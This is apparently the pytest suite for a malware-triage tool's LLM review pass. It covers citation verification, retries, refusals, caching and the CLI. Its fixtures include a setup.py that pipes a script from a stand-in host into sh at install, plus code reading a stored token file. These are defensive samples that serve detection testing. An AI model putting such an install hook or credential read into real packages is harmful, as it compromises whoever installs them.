"""The LLM pass end to end: litellm over real HTTP against a scripted OpenAI-compatible server.

Every case ends in a report: correct citations, a hallucinated statement, a wrong quote, an
unknown indicator, invalid JSON, 429 then success, a timeout, a refusal, a streamed answer,
the cache and the transcript.
"""

from __future__ import annotations

import json
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import make_artifact
from tests.llm_server import Reply, ScriptedServer, answer, cite
from triage import localize_plan
from triage.llm_cache import LlmStore
from triage.model import LlmUsage, RejectedCitation, Report, SkippedFile, Source
from triage.pipeline import Options, explain_artifact

MODEL = "openai/gpt-4.1-mini"  # priced by litellm's bundled map: $0.40/M in, $1.60/M out
UTIL = {"util.py": 'import os\n\n\ndef sync(url):\n'
                   '    data = open(os.path.expanduser("~/.config/tool/token")).read()\n'
                   '    return data\n'}
READ = 'data = open(os.path.expanduser("~/.config/tool/token")).read()'
SETUP = {"setup.py": 'import os\nfrom setuptools import setup\n\n'
                     'os.system("curl -s http://payload.example.invalid/x.sh | sh")\n'
                     'setup(name="demo", version="1.0")\n'}
GOOD = answer([cite("util.py:5:0", READ, "code_read_credentials", 0.9, "reads a token")])


@pytest.fixture(autouse=True)
def no_kb(monkeypatch: pytest.MonkeyPatch) -> None:
    """Definitions-only retrieval: no Chroma store in these tests."""
    monkeypatch.setattr(localize_plan, "default_retriever", localize_plan.definitions_retriever)


def _loopback(host: object) -> bool:
    return isinstance(host, str) and (host.startswith("127.") or host in ("::1", "localhost"))


@pytest.fixture(autouse=True)
def offline(monkeypatch: pytest.MonkeyPatch) -> Iterator[list[object]]:
    """Only 127.0.0.1 is reachable; any other connection or lookup fails the test."""
    attempts: list[object] = []
    real_connect, real_getaddrinfo = socket.socket.connect, socket.getaddrinfo

    def connect(self: socket.socket, address: Any) -> None:
        host = address[0] if isinstance(address, tuple) else address
        if self.family == socket.AF_UNIX or _loopback(host):
            return real_connect(self, address)
        attempts.append(address)
        raise OSError(f"network blocked in tests: {address!r}")

    def getaddrinfo(host: object, *args: Any, **kw: Any) -> Any:
        if host is None or _loopback(host):
            return real_getaddrinfo(host, *args, **kw)  # type: ignore[arg-type]
        attempts.append(host)
        raise socket.gaierror(f"name lookup blocked in tests: {host!r}")

    monkeypatch.setattr(socket.socket, "connect", connect)
    monkeypatch.setattr(socket, "getaddrinfo", getaddrinfo)
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    yield attempts
    assert attempts == []


@pytest.fixture
def db(tmp_path: Path) -> Path:
    return tmp_path / "llm.sqlite3"


def run(files: dict[str, str], script: list[Reply] | Any, db: Path,
        **opts: Any) -> tuple[Report, ScriptedServer]:
    settings: dict[str, Any] = {"review_pass": False, "llm_backoff_s": 0.01,
                                "llm_timeout_s": 5.0, "llm_retries": 2, "concurrency": 1,
                                **opts}
    with ScriptedServer(script) as srv:
        rep = explain_artifact(make_artifact(files), Options(
            model=MODEL, api_base=srv.url, llm_db=str(db), **settings))
    return rep, srv


def usage(calls: int, cached: int = 0, pt: int = 1000, ct: int = 100) -> LlmUsage:
    live = calls - cached
    return LlmUsage(model=MODEL, calls=calls, cached_calls=cached, prompt_tokens=pt * live,
                    completion_tokens=ct * live,
                    cost_usd=round(live * (pt * 0.4e-6 + ct * 1.6e-6), 6), latency_s=0.0)


def same_usage(got: LlmUsage | None, want: LlmUsage) -> None:
    assert got is not None
    assert got.__class__(**{**got.__dict__, "latency_s": 0.0}) == want


def test_correct_citation_becomes_a_finding(db: Path) -> None:
    rep, srv = run(UTIL, [Reply(GOOD)], db)
    assert [(f.statement_id, f.indicator, f.source, f.confidence, f.justification, f.code)
            for f in rep.findings] == [("util.py:5:0", "code_read_credentials", Source.LLM, 0.9,
                                        "reads a token", READ)]
    assert (rep.verdict.label, rep.engine, rep.rejected, rep.not_reviewed) == (
        "suspicious", MODEL, (), ())
    same_usage(rep.llm, usage(1))
    assert rep.notes[-1] == ("LLM openai/gpt-4.1-mini reviewed 1 of 1 part(s) in 1 file(s); "
                             "1 citation(s) verified, 0 rejected")
    body = srv.requests[0]
    assert body["model"] == "gpt-4.1-mini" and body["temperature"] == 0.0
    assert body["response_format"]["type"] == "json_schema"
    assert [m["role"] for m in body["messages"]] == ["system", "user"]
    assert "5 [5:0] |     data = open(" in body["messages"][1]["content"]


@pytest.mark.parametrize(("citation", "reason"), [
    (cite("util.py:9:0", "evil()", "code_read_credentials"),
     "statement util.py:9:0 does not exist"),
    (cite("util.py:5:0", "data = open('/etc/shadow').read()", "code_read_credentials"),
     "quote does not match the source of statement util.py:5:0"),
    (cite("util.py:5:0", READ, "code_steal_everything"),
     "indicator 'code_steal_everything' is not in the taxonomy"),
], ids=["hallucinated-statement", "wrong-quote", "unknown-indicator"])
def test_unverifiable_citations_are_rejected_not_findings(db: Path, citation: dict[str, Any],
                                                          reason: str) -> None:
    rep, _ = run(UTIL, [Reply(answer([citation]))], db)
    assert rep.findings == ()
    assert rep.rejected == (RejectedCitation(citation["statement_ids"][0],
                                             citation["indicator"], citation["quote"], reason,
                                             MODEL),)
    assert rep.verdict.label == "benign"
    assert rep.verdict.reasons == ("no indicator of malicious behaviour found by the static "
                                   "engine or the model",)


def test_invalid_json_is_repaired_once_then_fails_closed(db: Path) -> None:
    rep, srv = run(UTIL, [Reply('{"findings": [oops'), Reply(GOOD)], db)
    assert [f.statement_id for f in rep.findings] == ["util.py:5:0"]
    assert srv.requests[1]["messages"][-1]["content"].startswith(
        "Your answer could not be used: invalid JSON (Expecting value at line 1 column 15).")
    same_usage(rep.llm, usage(2))

    rep, srv = run(UTIL, [Reply("not json"), Reply("still {not json")], db.with_name("b.db"))
    assert len(srv.requests) == 2
    assert rep.verdict.label == "needs-review"
    reason = ("unparseable: unusable answer after 2 attempt(s): invalid JSON "
              "(Expecting value at line 1 column 1)")
    assert rep.verdict.reasons[0] == f"LLM review incomplete: util.py: {reason}"
    assert rep.not_reviewed == (SkippedFile("util.py", f"LLM review failed: {reason}"),)


def test_429_then_success(db: Path) -> None:
    rep, srv = run(UTIL, [Reply(status=429, headers={"Retry-After": "0"}, error="slow down"),
                          Reply(GOOD)], db)
    assert len(srv.requests) == 2
    assert [f.statement_id for f in rep.findings] == ["util.py:5:0"]
    same_usage(rep.llm, usage(1))
    rows = LlmStore(db).exchanges()
    assert [(r["attempt"], (r["error"] or "").split(":")[0], r["prompt_tokens"]) for r in rows] \
        == [(1, "rate_limit", 0), (2, "", 1000)]


def test_server_errors_exhaust_retries_then_fail_closed(db: Path) -> None:
    rep, srv = run(UTIL, [Reply(status=500)] * 3, db)
    assert len(srv.requests) == 3
    assert rep.verdict.label == "needs-review"
    assert rep.verdict.reasons[0].startswith("LLM review incomplete: util.py: server after 3 "
                                             "attempt(s): ")


def test_timeout_fails_closed(db: Path) -> None:
    rep, srv = run(UTIL, [Reply(GOOD, delay_s=1.5)] * 2, db, llm_timeout_s=0.3, llm_retries=1)
    assert len(srv.requests) == 2
    assert rep.findings == () and rep.verdict.label == "needs-review"
    assert rep.verdict.reasons[0].startswith("LLM review incomplete: util.py: timeout after 2 "
                                             "attempt(s): ")
    assert rep.not_reviewed[0].reason.startswith("LLM review failed: timeout after 2 attempt(s)")


def test_static_malicious_stays_malicious_when_the_model_fails(db: Path) -> None:
    rep, _ = run(SETUP, [Reply(status=500)] * 3, db)
    assert rep.verdict.label == "malicious"
    assert rep.verdict.reasons[0].startswith("LLM review incomplete: setup.py: server after 3")


@pytest.mark.parametrize("reply", [
    Reply(None, refusal="I can't help with that."),
    Reply("", finish_reason="content_filter"),
], ids=["refusal-field", "content-filter"])
def test_refusal_fails_closed(db: Path, reply: Reply) -> None:
    rep, srv = run(UTIL, [reply], db)
    assert len(srv.requests) == 1
    assert rep.verdict.label == "needs-review"
    assert rep.verdict.reasons[0].startswith("LLM review incomplete: util.py: refusal: the "
                                             "model refused: ")


def test_refusal_in_prose_fails_closed_after_a_repair(db: Path) -> None:
    text = "I'm sorry, but I can't help with analysing malware."
    rep, srv = run(UTIL, [Reply(text), Reply(text)], db)
    assert len(srv.requests) == 2
    assert rep.verdict == rep.verdict.__class__(
        "needs-review", 0.0,
        (f"LLM review incomplete: util.py: refusal: the model refused: {text} (after 2 "
         "attempt(s))",
         "no indicator of malicious behaviour found by the static engine or the model"))


def test_streamed_answer(db: Path) -> None:
    rep, srv = run(UTIL, [Reply(GOOD, stream=True, usage=(1200, 80))], db, stream=True)
    assert srv.requests[0]["stream"] is True
    assert [(f.statement_id, f.indicator) for f in rep.findings] == [
        ("util.py:5:0", "code_read_credentials")]
    same_usage(rep.llm, usage(1, pt=1200, ct=80))


def test_review_pass_gets_verification_feedback_and_its_answer_wins(db: Path) -> None:
    bad = answer([cite("util.py:5:0", "open('/etc/shadow')", "code_read_credentials")])
    rep, srv = run(UTIL, [Reply(bad), Reply(GOOD)], db, review_pass=True)
    review = srv.requests[1]["messages"]
    assert [m["role"] for m in review] == ["system", "user", "assistant", "user"]
    assert review[2]["content"] == bad
    assert ("- util.py:5:0 code_read_credentials: quote does not match the source of statement "
            "util.py:5:0") in review[3]["content"]
    assert rep.rejected == () and [f.statement_id for f in rep.findings] == ["util.py:5:0"]
    assert [r["purpose"] for r in LlmStore(db).exchanges()] == ["localize", "review"]


def test_failed_review_keeps_the_first_answer(db: Path) -> None:
    rep, _ = run(UTIL, [Reply(GOOD), Reply(status=400, error="bad request")], db,
                 review_pass=True)
    assert [f.statement_id for f in rep.findings] == ["util.py:5:0"]
    assert rep.verdict.label == "suspicious"
    assert any(n.startswith("review pass failed for util.py (bad_request: ") for n in rep.notes)


def test_cache_makes_reruns_free_and_the_transcript_records_everything(db: Path) -> None:
    first, _ = run(UTIL, [Reply(GOOD)], db)
    again, srv = run(UTIL, [], db)
    assert srv.requests == []
    assert again.findings == first.findings
    same_usage(again.llm, usage(1, cached=1))
    fresh, srv = run(UTIL, [Reply(GOOD)], db, llm_cache=False)
    assert len(srv.requests) == 1
    rows = LlmStore(db).exchanges()
    assert [(r["cached"], r["prompt_tokens"], r["purpose"], r["label"]) for r in rows] == [
        (0, 1000, "localize", "demo 1.0 util.py"), (1, 0, "localize", "demo 1.0 util.py"),
        (0, 1000, "localize", "demo 1.0 util.py")]
    assert rows[0]["cost_usd"] == pytest.approx(0.00056)
    assert json.loads(rows[0]["messages"])[0]["role"] == "system"
    assert json.loads(rows[0]["params"])["response_format"]["type"] == "json_schema"


def test_answers_are_not_cached_when_unusable(db: Path) -> None:
    run(UTIL, [Reply("nope"), Reply("nope")], db)
    rep, srv = run(UTIL, [Reply(GOOD)], db)
    assert len(srv.requests) == 1 and rep.verdict.label == "suspicious"


def test_concurrent_parts_keep_file_order(db: Path) -> None:
    files = {**UTIL, "b.py": "import os\nX = os.getcwd()\n", "c.py": "Y = 2\n"}

    def script(body: dict[str, Any]) -> Reply:
        user = body["messages"][1]["content"]
        sid = next(f for f in ("util.py", "b.py", "c.py") if f"file: {f}\n" in user)
        quote = {"util.py": READ, "b.py": "X = os.getcwd()", "c.py": "Y = 2"}[sid]
        line = {"util.py": 5, "b.py": 2, "c.py": 1}[sid]
        return Reply(answer([cite(f"{sid}:{line}:0", quote, "code_read_system_and_user_info",
                                  0.5)]))

    rep, srv = run(files, script, db, concurrency=3)
    assert len(srv.requests) == 3
    assert [f.statement_id for f in rep.findings] == ["b.py:2:0", "c.py:1:0", "util.py:5:0"]


@pytest.fixture
def _no_key(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.delenv("TRIAGE_LLM_API_KEY", raising=False)
    yield


def test_local_server_gets_no_hosted_key(db: Path, _no_key: None,
                                         monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-hosted-secret")
    with ScriptedServer([Reply(GOOD)]) as srv:
        rep = explain_artifact(make_artifact(UTIL), Options(
            model="local", api_base=srv.url, llm_db=str(db), review_pass=False,
            json_mode="object"))
    assert srv.auth == ["Bearer no-key"]
    assert rep.engine == "openai/local" and rep.verdict.label == "suspicious"
    assert srv.requests[0]["model"] == "local"
    assert srv.requests[0]["response_format"] == {"type": "json_object"}


def test_cli_explain_with_a_model(tmp_path: Path, db: Path) -> None:
    from typer.testing import CliRunner

    from triage.cli import app

    target = tmp_path / "util.py"
    target.write_text(UTIL["util.py"])
    base = ["explain", str(target), "--model", MODEL, "--llm-db", str(db), "--no-review",
            "--llm-retries", "0", "--format", "json"]
    with ScriptedServer([Reply(GOOD)]) as srv:
        res = CliRunner().invoke(app, [*base, "--api-base", srv.url])
    assert res.exit_code == 1, res.output
    rep = json.loads(res.stdout)
    assert (rep["engine"], rep["verdict"]["label"], rep["llm"]["calls"]) == (MODEL, "suspicious", 1)
    assert [(f["statement_id"], f["source"]) for f in rep["findings"]] == [("util.py:5:0", "llm")]
    with ScriptedServer([Reply(status=503)]) as srv:
        res = CliRunner().invoke(app, [*base, "--api-base", srv.url, "--no-llm-cache"])
    assert res.exit_code == 1, res.output  # needs-review counts as "suspicious" for --fail-on
    assert json.loads(res.stdout)["verdict"]["label"] == "needs-review"
    with ScriptedServer([Reply(status=401, error="invalid api key")]) as srv:
        res = CliRunner().invoke(app, [*base, "--api-base", srv.url, "--no-llm-cache"])
    assert res.exit_code == 2
    assert "error: " in res.output and "invalid api key" in res.output


def test_local_model_gets_a_grammar_narrowed_to_the_statements_shown(
        db: Path, _no_key: None) -> None:
    """``--model local`` asks llama.cpp for schema-constrained JSON: citations may name only
    the statements of the part, indicators only taxonomy IDs; the answer is still verified."""
    drift = cite("code_read_credentials:5:0", READ, "code_read_credentials")
    with ScriptedServer([Reply(answer([drift, cite("util.py:5:0", READ,
                                                        "code_read_credentials")]))]) as srv:
        rep = explain_artifact(make_artifact(UTIL), Options(
            model="local:tiny", api_base=srv.url, llm_db=str(db), review_pass=False))
    fmt = srv.requests[0]["response_format"]
    assert fmt["type"] == "json_object"
    item = fmt["schema"]["properties"]["findings"]["items"]["properties"]
    assert item["statement_ids"]["items"]["enum"] == ["util.py:1:0", "util.py:4:0",
                                                      "util.py:5:0", "util.py:6:0"]
    assert "code_read_credentials" in item["indicator"]["enum"]
    assert len(item["indicator"]["enum"]) == 57
    assert [(f.statement_id, f.indicator) for f in rep.findings] == [
        ("util.py:5:0", "code_read_credentials")]
    assert [(r.statement_id, r.reason) for r in rep.rejected] == [
        ("code_read_credentials:5:0", "statement code_read_credentials:5:0 does not exist")]


def test_a_local_model_without_a_server_is_one_clear_setup_error(db: Path) -> None:
    """No retries per part and no needs-review verdict: nothing can be reviewed, so the
    user is told once how to start the server."""
    from triage.llm import LlmConfigError
    from triage.local_server import free_port

    closed = f"http://127.0.0.1:{free_port()}/v1"
    with pytest.raises(LlmConfigError) as err:
        explain_artifact(make_artifact(UTIL), Options(
            model="local:qwen2.5-coder-1.5b", api_base=closed, llm_db=str(db)))
    assert str(err.value).startswith(
        f"model local:qwen2.5-coder-1.5b: no server answers at {closed} (")
    assert str(err.value).endswith(
        "start one with `triage model serve qwen2.5-coder-1.5b` or pass --api-base URL")
    assert err.value.exit_code == 2
